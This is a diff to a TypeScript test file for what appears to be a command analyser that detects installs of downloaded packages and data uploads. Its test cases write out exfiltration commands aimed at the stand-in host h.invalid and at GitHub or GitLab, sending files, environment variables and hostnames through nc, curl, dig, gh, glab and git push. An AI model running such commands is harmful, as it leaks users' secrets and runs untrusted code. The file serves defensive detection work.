@@ -51,6 +51,12 @@ describe('executions', () => {
   ] as const)('%s: %s', (language, text, expected) => expect(executions(text, language)).toContainEqual(expected))
 })
 
+test.each([
+  ['code --install-extension k.vsix --force', true], ['windsurf --install-extension=./k.vsix', true], ['pipx install ./k.vsix', true], ['uv tool install k.vsix', true], ['npm i -g k.vsix', true],
+  ['sudo pacman -U k.vsix', true], ['installer -pkg k.vsix -target /', true], ['msiexec /i k.vsix /qn', true], ['chromium --load-extension=k.vsix', true],
+  ['pip install -r k.vsix', false], ['code k.vsix', false], ['python3 read.py k.vsix', false], ['npm run k.vsix', false],
+] as const)('what was fetched is installed: %s, %s', (text, isRun) => expect(view(`curl -o k.vsix https://h.invalid/k\n${text}`).executions.length > 0).toBe(isRun))
+
 test.each([['variables', 'set a to "x"\n'.repeat(60_000)], ['programs', 'do shell script "x"\n'.repeat(600)], ['a text made longer and longer', `set a to "x"\n${'set a to a & a\n'.repeat(2_000)}`]])('more AppleScript than is followed is told: %s', (_, text) => {
   expect(parseLexically(text, 'applescript').truncated).toMatch(/^only the first 500 programs/)
 })
@@ -73,8 +79,17 @@ describe('uploads', () => {
       { urls: ['https://h.invalid'], files: ['a.tgz'], variables: [], from: ['tar'] },
     ],
     ['nc h.invalid 99 < k', { urls: ['h.invalid'], files: ['k'], variables: [], from: [] }],
+    ['gh issue create -R o/r -t "a $(hostname)" -F k', { urls: ['https://github.com/o/r'], files: ['k'], variables: [], from: ['hostname'] }],
+    ['gh api repos/o/r/issues -f body=@k', { urls: ['https://github.com/o/r'], files: ['k'], variables: [], from: [] }],
+    ['gh gist create -d x k l', { urls: [], files: ['k', 'l'], variables: [], from: [] }],
+    ['glab mr note 1 -R g.invalid/o/r -m "$(cat k)"', { urls: ['https://g.invalid/o/r'], files: [], variables: [], from: ['cat'] }],
+    ['{ env; cat k; } > f; hub issue create --file=f', { urls: [], files: ['f'], variables: [], from: ['cat', 'env'] }],
+    ['git remote add b git@g.invalid:o/r.git; git add k; git push b main', { urls: ['https://g.invalid/o/r.git'], files: ['k'], variables: [], from: [] }],
+    ['git bundle create b --all; curl -T b https://h.invalid', { urls: ['https://h.invalid'], files: ['b'], variables: [], from: ['git'] }],
     ['dig $(whoami).h.invalid', { urls: ['{}.h.invalid'], files: [], variables: [], from: ['whoami'] }],
   ])('%s', (text, expected) => expect(uploads(text)).toEqual([expected]))
+
+  test.each(['gh secret set -f .env', 'gh auth login --with-token < k', 'gh issue list -R o/r', 'git add k; git push origin main', 'git add k; git push https://github.com/your-name/r'])('nothing is published: %s', text => expect(uploads(text)).toEqual([]))
 
   test('a header is not what is sent', () => expect(uploads('curl -H "Authorization: Bearer $KEY" https://h.invalid')).toEqual([]))
 })
